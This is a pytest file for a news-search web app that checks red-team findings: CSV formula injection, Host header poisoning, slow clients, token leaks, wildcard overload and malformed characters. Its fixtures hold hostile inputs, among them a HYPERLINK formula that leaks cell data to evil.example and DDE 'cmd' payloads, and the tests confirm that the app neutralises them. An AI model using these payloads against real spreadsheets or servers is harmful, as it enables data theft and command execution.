"""Issue 18 (red team), the web side: every finding checked through HTTP, as a user meets it.

Dates before year 1000, lone surrogates in stored text, match-all wildcards, CSV formulas,
control characters in feeds, the access token, Host-poisoned URLs, cursor keys, odd ids and
speaker names, and slow clients against the real server.
"""

from __future__ import annotations

import csv
import html
import http.client
import io
import json
import re
import socket
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from bench.load import serving
from bench.slow_clients import timed_requests, trickling
from helpers.paths import REPO
from helpers.records import build_index, write_jsonl
from indexer.manifest import open_index
from indexer.model import Article, Quote
from indexer.schema import article_documents
from indexer.writer import reindex
from webapp import create_app
from webapp.server import HEADER_SECONDS

ATOM = "{http://www.w3.org/2005/Atom}"

RECORDS: list[dict[str, Any]] = [
    {"id": "old", "title": "Old", "body": "old text", "date": "0999-05-01"},
    {"id": "new", "title": "Newer", "body": "newer text about the harbour", "date": "2024-05-01"},
    {
        "id": "ctl",
        "title": "Control \x01 bell \x1b escape \ufffe\uffff title",
        "author": "Ann \x07Lee",
        "body": "control characters in a harbour title",
        "date": "2024-02-03",
    },
    {
        "id": "fx1",
        "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "author": "+cmd|' /C calc'!A0",
        "source": "-2+3",
        "location": "@SUM(1+1)*cmd|' /C calc'!A0",
        "body": "formula harbour story",
        "date": "2024-03-04",
        "quotes": [{"text": "=1+1 is what we said", "speaker": "@Speaker"}],
    },
    {
        "id": "fx2",
        "title": "\tTabbed title",
        "source": "\rCarriage",
        "body": "formula story with a tab",
        "date": "2024-03-05",
    },
    {
        "id": "a/b",
        "title": "Slashed id",
        "body": "slashed harbour story. The minister said it.",
        "date": "2024-04-01",
        "quotes": [{"text": "we hold the harbour", "speaker": ".."}],
    },
]


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_index(tmp_path_factory.mktemp("red-team-web"), RECORDS)[1]


def body_text(response: Any) -> str:
    return response.get_data().decode("utf-8")


# ---------------------------------------------------------------- item 4: years before 1000


@pytest.mark.parametrize("path", ["/", "/search", "/api/search", "/search.atom"])
def test_an_article_dated_before_year_1000_is_found_everywhere(
    client: FlaskClient, path: str
) -> None:
    response = client.get(path, query_string={"q": "old"})
    assert response.status_code == 200, body_text(response)[:500]
    text = body_text(response)
    if path == "/api/search":
        found = response.get_json()
        assert [hit["id"] for hit in found["hits"]] == ["old"]
        keys = [bucket["key"] for bucket in found["histogram"]["buckets"]]
        assert keys == ["0999-05"] and found["histogram"]["buckets"][0]["count"] == 1
    elif path == "/search.atom":
        feed = ET.fromstring(response.get_data())
        (entry,) = feed.findall(f"{ATOM}entry")
        assert entry.findtext(f"{ATOM}updated") == "0999-05-01T00:00:00Z"
    else:
        assert "/articles/old" in text


def test_histogram_spans_year_999_to_2024_in_order(client: FlaskClient) -> None:
    found = client.get("/api/search", query_string={"q": "old OR newer"}).get_json()
    histogram = found["histogram"]
    assert histogram["interval"] == "year"
    assert histogram["buckets"][0] == {"key": "0999", "count": 1, "total": 1}
    assert histogram["buckets"][-1]["key"] == "2024" and histogram["buckets"][-1]["count"] == 1


# ---------------------------------------------------------------- item 5: lone surrogates

SURROGATE = "\ud800"
PLANTED = Article(
    id="sur",
    path="planted.jsonl",
    format="jsonl",
    title=f"Lone {SURROGATE} surrogate title \x01\x1b\ufffe",  # controls: XML forbids them
    author=f"Ann {SURROGATE}Surrogate",
    date="2024-06-01",
    location="Kyiv",
    source="Planted",
    body=f"surrogate body text {SURROGATE} about the lagoon. He said it twice.",
    quotes=[Quote(text=f"the lagoon {SURROGATE} is calm", speaker=f"Sur {SURROGATE}Speaker")],
)


def _without_surrogates(value: Any) -> Any:
    if isinstance(value, str):
        return value.encode("utf-8", "replace").decode("utf-8").replace("?", " ")
    return value


def plant(index_dir: Path, article: Article) -> None:
    """Add `article` with its stored fields verbatim, lone surrogates included, as an index
    built by an older Newsdesk holds them (ingest now replaces them; the words indexed here
    are the text without them, which Whoosh could not encode)."""
    ix = open_index(str(index_dir))
    writer = ix.writer()
    for doc in article_documents(article, "planted.jsonl"):
        indexed = {name: _without_surrogates(value) for name, value in doc.items()}
        stored = {
            f"_stored_{name}": value
            for name, value in doc.items()
            if isinstance(value, str) and value != indexed[name]
        }
        writer.add_document(**indexed, **stored)
    writer.commit()
    ix.close()


@pytest.fixture(scope="module")
def surrogate_app(tmp_path_factory: pytest.TempPathFactory) -> Any:
    root = tmp_path_factory.mktemp("surrogates")
    records = [{"id": f"s{n}", "title": f"Lagoon {n}", "body": "lagoon story", "date": "2024-01-0"
                f"{n + 1}"} for n in range(3)]  # fmt: skip
    index = build_index(root, records)[1]
    plant(index, PLANTED)
    app = create_app({"TESTING": True, "INDEX_DIR": str(index)})
    yield app
    app.extensions["newsdesk"].close()


def test_the_planted_article_holds_a_lone_surrogate(surrogate_app: Flask) -> None:
    handle = surrogate_app.extensions["newsdesk"]
    stored = [f for f in handle.searcher().all_stored_fields() if f.get("id") == "sur"]
    assert stored and SURROGATE in stored[0]["title"]


@pytest.mark.parametrize(
    "path",
    ["/search?q=surrogate", "/?q=lagoon", "/quotes?q=lagoon", "/articles/sur",
     "/api/articles/sur", "/api/search?q=surrogate", "/api/quotes?q=lagoon",
     "/search.atom?q=surrogate"],
)  # fmt: skip
def test_pages_with_a_lone_surrogate_answer_200(surrogate_app: Flask, path: str) -> None:
    response = surrogate_app.test_client().get(path)
    assert response.status_code == 200, response.get_data()[:300]
    text = body_text(response)  # valid UTF-8
    if path.startswith("/api/"):
        assert "surrogate" in json.dumps(response.get_json()).lower()
    elif path.endswith(".atom?q=surrogate"):
        (entry,) = ET.fromstring(response.get_data()).findall(f"{ATOM}entry")
        assert "surrogate title" in (entry.findtext(f"{ATOM}title") or "")
    else:
        assert "\ufffd" in text


@pytest.mark.parametrize("path", ["/api/search", "/api/quotes"])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_exports_with_a_lone_surrogate_are_complete(
    surrogate_app: Flask, path: str, fmt: str
) -> None:
    response = surrogate_app.test_client().get(f"{path}.{fmt}", query_string={"sort": "oldest"})
    assert response.status_code == 200
    text = body_text(response)
    expected = 4 if path == "/api/search" else 1  # three lagoon stories and the planted one
    if fmt == "jsonl":
        lines = [json.loads(line) for line in text.splitlines()]
        rows = lines[1:]
        assert lines[0]["manifest"]["count"] == expected
    else:
        rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == expected
    last = rows[-1]
    assert last["id"].startswith("sur")  # the newest, exported last: the stream was not cut
    assert "\ufffd" in (last.get("title") or "") + (last.get("text") or "")


# ---------------------------------------------------------------- item 9: match-all wildcards


@pytest.fixture(scope="module")
def wide_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """3,000 articles of 200 distinct words each: `*` would walk 600,000 postings."""
    root = tmp_path_factory.mktemp("wide")
    records = [
        {
            "id": f"w{n}",
            "title": f"Wide story {n} w{n}x",
            "date": f"2024-{1 + n % 12:02d}-{1 + n % 28:02d}",
            "source": f"Source {n % 5}",
            "body": " ".join(f"v{(n * 211 + k) % 50_000}q" for k in range(200)),
            "quotes": [{"text": f"said w{n}x today", "speaker": f"Speaker {n % 9}"}],
        }
        for n in range(3_000)
    ]
    corpus = write_jsonl(root / "wide.jsonl", records)
    reindex([str(corpus)], str(root / "index"), workers=1)
    return root / "index"


@pytest.fixture(scope="module")
def wide(wide_index: Path) -> Any:
    app = create_app({"TESTING": True, "INDEX_DIR": str(wide_index)})
    client = app.test_client()
    assert client.get("/api/search?q=wide").status_code == 200  # caches built
    assert client.get("/api/quotes?q=said").status_code == 200
    yield client
    app.extensions["newsdesk"].close()


@pytest.mark.slow
@pytest.mark.parametrize(
    "path",
    ["/api/search?q=*", "/api/search?q=title:*", "/api/search?q=body:*",
     "/api/search?q=*%20body:*", "/api/quotes?q=*", "/api/quotes?q=quotes:*",
     "/api/search?q=*&source=Source%201", "/search?q=*", "/search.atom?q=*"],
)  # fmt: skip
def test_match_all_wildcards_are_answered_by_browsing_quickly(wide: FlaskClient, path: str) -> None:
    start = time.monotonic()
    response = wide.get(path)
    elapsed = time.monotonic() - start
    assert response.status_code == 200, body_text(response)[:300]
    assert elapsed < 0.5, f"{path} took {elapsed:.2f} s"
    if path.startswith("/api/"):
        found = response.get_json()
        browse = wide.get(path.replace("q=*%20body:*", "q=").replace("q=*", "q=")).get_json()
        expected = 600 if "source=" in path else 3_000
        assert found["total"] == browse["total"] == expected
        assert [hit["id"] for hit in found["hits"]] == [hit["id"] for hit in browse["hits"]]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("q", "lenient"),
    [
        ("wide *", 200),  # read as "wide", the '*' told in query_notes
        ("NOT *", 400),  # nothing left to search: the strict message
        ("(*)", 400),
        ("**", 400),
        ("?", 400),
        ("*?", 400),
        ("title:**", 400),
    ],
)
def test_other_bare_wildcards_are_a_400_that_says_why(
    wide: FlaskClient, q: str, lenient: int
) -> None:
    for strict in ("1", "0"):
        start = time.monotonic()
        response = wide.get("/api/search", query_string={"q": q, "strict": strict})
        assert time.monotonic() - start < 0.5
        expected = 400 if strict == "1" else lenient
        assert response.status_code == expected, body_text(response)[:300]
        data = response.get_json()
        if expected == 200:
            assert any("'*'" in note for note in data["query_notes"]), data["query_notes"]
            continue
        message = data["error"]["message"]
        assert "wildcard" in message or "'*'" in message or "needs a term" in message


# ---------------------------------------------------------------- item 11: CSV formulas

FORMULA_CELLS = {
    "title": '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "author": "'+cmd|' /C calc'!A0",
    "source": "'-2+3",
    "location": "'@SUM(1+1)*cmd|' /C calc'!A0",
}


def csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(body_text(response))))


def test_article_csv_neutralises_formulas(client: FlaskClient) -> None:
    rows = {r["id"]: r for r in csv_rows(client.get("/api/search.csv?q=formula"))}
    for column, cell in FORMULA_CELLS.items():
        assert rows["fx1"][column] == cell
    assert rows["fx2"]["title"] == "'\tTabbed title"
    assert rows["fx2"]["source"] == "'\rCarriage"
    assert rows["fx1"]["date"] == "2024-03-04"  # ordinary cells untouched


def test_quote_csv_neutralises_formulas(client: FlaskClient) -> None:
    (row,) = csv_rows(client.get("/api/quotes.csv?q=said"))
    assert row["text"] == "'=1+1 is what we said"
    assert row["speaker"] == "'@Speaker"
    assert row["title"] == FORMULA_CELLS["title"]


def test_json_lines_exports_stay_verbatim(client: FlaskClient) -> None:
    lines = body_text(client.get("/api/search.jsonl?q=formula")).splitlines()
    rows = {r["id"]: r for r in map(json.loads, lines[1:])}
    assert rows["fx1"]["title"] == RECORDS[3]["title"]
    assert rows["fx2"]["title"] == "\tTabbed title"


# ---------------------------------------------------------------- item 13: XML-forbidden chars


def test_feed_with_control_characters_parses_and_keeps_the_entry(client: FlaskClient) -> None:
    """Ingest replaces them (one character for one); the planted article of an older index
    keeps them, and the feed leaves them out (test_pages_with_a_lone_surrogate_answer_200)."""
    response = client.get("/search.atom", query_string={"q": "control"})
    assert response.status_code == 200
    feed = ET.fromstring(response.get_data())  # raises on characters XML 1.0 forbids
    (entry,) = feed.findall(f"{ATOM}entry")
    assert entry.findtext(f"{ATOM}title") == "Control   bell   escape \ufffd\ufffd title"
    assert entry.findtext(f"{ATOM}author/{ATOM}name") == "Ann  Lee"


def test_opensearch_description_parses(client: FlaskClient) -> None:
    response = client.get("/opensearch.xml")
    assert response.status_code == 200
    ET.fromstring(response.get_data())


# ---------------------------------------------------------------- item 10: slow clients


@pytest.fixture
def server_port(index_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """`newsdesk serve` (2 workers) on a loopback port, running this checkout's code."""
    monkeypatch.setenv("PYTHONPATH", str(REPO))
    monkeypatch.delenv("NEWSDESK_TOKEN", raising=False)
    with serving(index_dir, workers=2) as port:
        yield port


@pytest.mark.slow
def test_clients_trickling_headers_do_not_hold_up_others(server_port: int) -> None:
    with trickling(server_port, 16, every=0.5):
        time.sleep(1.5)  # each slow connection has sent a few bytes of its headers
        times = timed_requests(server_port, 5, timeout=10)
    assert all(t is not None and t < 2.0 for t in times), times


@pytest.mark.slow
def test_a_request_whose_headers_never_end_is_dropped(server_port: int) -> None:
    sock = socket.create_connection(("127.0.0.1", server_port), timeout=HEADER_SECONDS + 10)
    start = time.monotonic()
    sock.sendall(b"GET /api/search HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # no blank line
    try:
        assert sock.recv(1024) == b""  # closed by the server
    finally:
        sock.close()
    assert time.monotonic() - start < HEADER_SECONDS + 3


# ---------------------------------------------------------------- item 14: the access token

TOKEN = "red-Team_token-18"


@pytest.fixture
def private(index_dir: Path) -> Any:
    app = create_app({"TESTING": True, "INDEX_DIR": str(index_dir), "TOKEN": TOKEN})
    yield app
    app.extensions["newsdesk"].close()


def test_url_token_login_redirects_to_the_address_without_it(private: Flask) -> None:
    client = private.test_client()
    response = client.get(f"/search?q=harbour&token={TOKEN}&sort=newest")
    assert response.status_code == 303
    assert response.headers["Location"] == "/search?q=harbour&sort=newest"
    followed = client.get(response.headers["Location"])  # with the cookie it set
    assert followed.status_code == 200 and "/articles/" in body_text(followed)


def test_the_cookie_does_not_hold_the_token(private: Flask) -> None:
    client = private.test_client()
    client.get(f"/search?token={TOKEN}")
    cookie = client.get_cookie("newsdesk_token")
    assert cookie is not None and cookie.value and TOKEN not in cookie.value
    login = private.test_client().post("/login", data={"token": TOKEN, "next": "/"})
    assert TOKEN not in login.headers["Set-Cookie"]
    forged = private.test_client()
    forged.set_cookie("newsdesk_token", TOKEN)  # the raw token is no longer a cookie
    assert forged.get("/api/search").status_code == 401


@pytest.mark.parametrize("path", ["/search", "/api/search", "/search.atom"])
def test_a_wrong_url_token_does_not_undo_a_valid_cookie(private: Flask, path: str) -> None:
    client = private.test_client()
    client.post("/login", data={"token": TOKEN, "next": "/"})
    response = client.get(path, query_string={"token": "wrong", "q": "harbour"})
    assert response.status_code == 200
    assert client.get_cookie("newsdesk_token") is not None  # kept
    assert client.get("/api/search").status_code == 200


def test_api_and_feeds_take_the_url_token_without_a_redirect(private: Flask) -> None:
    for path in ("/api/search", "/search.atom", "/api/search.csv"):
        response = private.test_client().get(path, query_string={"token": TOKEN})
        assert response.status_code == 200, path


@pytest.mark.slow
def test_the_access_log_never_shows_the_token(
    index_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHONPATH", str(REPO))
    monkeypatch.setenv("NEWSDESK_TOKEN", TOKEN)
    log = tmp_path / "serve.log"
    with serving(index_dir, workers=1, log=log) as port:
        for path in (f"/search?q=harbour&token={TOKEN}", f"/api/search?token={TOKEN}&q=x"):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            conn.request("GET", path, headers={"Referer": f"http://127.0.0.1/?token={TOKEN}"})
            assert conn.getresponse().status in (200, 303)
            conn.close()
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        conn.request("GET", "/api/search", headers={"Authorization": f"Bearer {TOKEN}"})
        assert conn.getresponse().status == 200
        conn.close()
        time.sleep(0.5)
    text = log.read_text()
    assert "/search?q=harbour&token=[redacted]" in text  # the requests were logged
    assert TOKEN not in text


# ---------------------------------------------------------------- item 16: Host, keys, ids


def test_the_next_link_is_relative_and_ignores_the_host_header(client: FlaskClient) -> None:
    response = client.get("/api/search?per_page=1", headers={"Host": "evil.example"})
    link = response.headers["Link"]
    assert link.startswith("</api/search?") and "evil.example" not in link
    assert client.get(link[1 : link.index(">")]).status_code == 200


def test_cursors_are_signed_with_a_per_index_key(index_dir: Path) -> None:
    first = create_app({"TESTING": True, "INDEX_DIR": str(index_dir)})
    cursor = first.test_client().get("/api/search?per_page=1").get_json()["next"]
    key = index_dir / "cursor.key"
    assert key.stat().st_mode & 0o777 == 0o600 and len(key.read_bytes()) >= 32
    restarted = create_app({"TESTING": True, "INDEX_DIR": str(index_dir)})
    paged = {"per_page": 1, "cursor": cursor}
    again = restarted.test_client().get("/api/search", query_string=paged)
    assert again.status_code == 200  # survives a restart
    other = create_app({"TESTING": True, "INDEX_DIR": str(index_dir), "SECRET_KEY": "another"})
    refused = other.test_client().get("/api/search", query_string=paged)
    assert refused.status_code == 400 and "cursor" in refused.get_json()["error"]["message"]
    for app in (first, restarted, other):
        app.extensions["newsdesk"].close()


def test_an_article_id_with_a_slash_is_reachable_by_its_links(client: FlaskClient) -> None:
    page = body_text(client.get("/search", query_string={"q": "slashed"}))
    href = next(h for h in _hrefs(page) if h.startswith("/articles/") and "a" in h)
    article = client.get(href)
    assert article.status_code == 200 and "Slashed id" in body_text(article)
    api = next(h for h in _hrefs(body_text(article)) if h.startswith("/api/articles/"))
    assert client.get(api).get_json()["id"] == "a/b"
    assert client.get("/api/articles/a%2Fb/similar").status_code == 200
    hit = client.get("/api/quotes?q=harbour").get_json()["hits"][0]
    assert client.get(hit["link"].split("#")[0]).status_code == 200


def _hrefs(page: str) -> list[str]:
    return [html.unescape(h) for h in re.findall(r'href="([^"]+)"', page)]


def test_a_speaker_named_dot_dot_is_reachable_by_its_links(client: FlaskClient) -> None:
    """Browsers resolve `..` in a path (escaped or not) before sending it, so such a name's
    links carry it as a query parameter."""
    article = body_text(client.get("/articles/a/b"))
    href = next(h for h in _hrefs(article) if "speaker" in h and "name=" in h)
    assert href == "/speaker?name=.."
    page = client.get(href)
    assert page.status_code == 200 and "we hold the harbour" in body_text(page)
    api = next(h for h in _hrefs(body_text(page)) if h.startswith("/api/speaker"))
    assert client.get(api).get_json()["speaker"] == ".."
    assert client.get("/api/speaker").status_code == 400
    assert client.get("/api/speaker?name=nobody").status_code == 404


def test_feeds_take_their_address_from_the_configuration_not_the_host_header(
    index_dir: Path,
) -> None:
    app = create_app(
        {"TESTING": True, "INDEX_DIR": str(index_dir), "BASE_URL": "https://news.example.org"}
    )
    client = app.test_client()
    evil = {"Host": "attacker.invalid", "X-Forwarded-Host": "attacker.invalid"}
    for path in ("/search.atom?q=harbour", "/opensearch.xml"):
        response = client.get(path, headers=evil)
        assert response.status_code == 200
        text = body_text(response)
        assert "attacker.invalid" not in text and "https://news.example.org/" in text, path
    feed = ET.fromstring(client.get("/search.atom?q=harbour", headers=evil).get_data())
    links = [e.get("href") for e in feed.iter(f"{ATOM}link")]
    assert links and all(link.startswith("https://news.example.org/") for link in links)
    app.extensions["newsdesk"].close()


def test_a_cursor_key_cut_short_is_replaced(index_dir: Path) -> None:
    """A worker that died while writing the key left it short: it is made again, never used
    as it is (an empty key would sign every cursor with a public secret)."""
    key = index_dir / "cursor.key"
    key.write_bytes(b"")
    app = create_app({"TESTING": True, "INDEX_DIR": str(index_dir)})
    cursor = app.test_client().get("/api/search?per_page=1").get_json()["next"]
    assert len(key.read_bytes()) >= 32 and key.stat().st_mode & 0o777 == 0o600
    again = create_app({"TESTING": True, "INDEX_DIR": str(index_dir)})
    paged = {"per_page": 1, "cursor": cursor}
    assert again.test_client().get("/api/search", query_string=paged).status_code == 200
    for each in (app, again):
        each.extensions["newsdesk"].close()
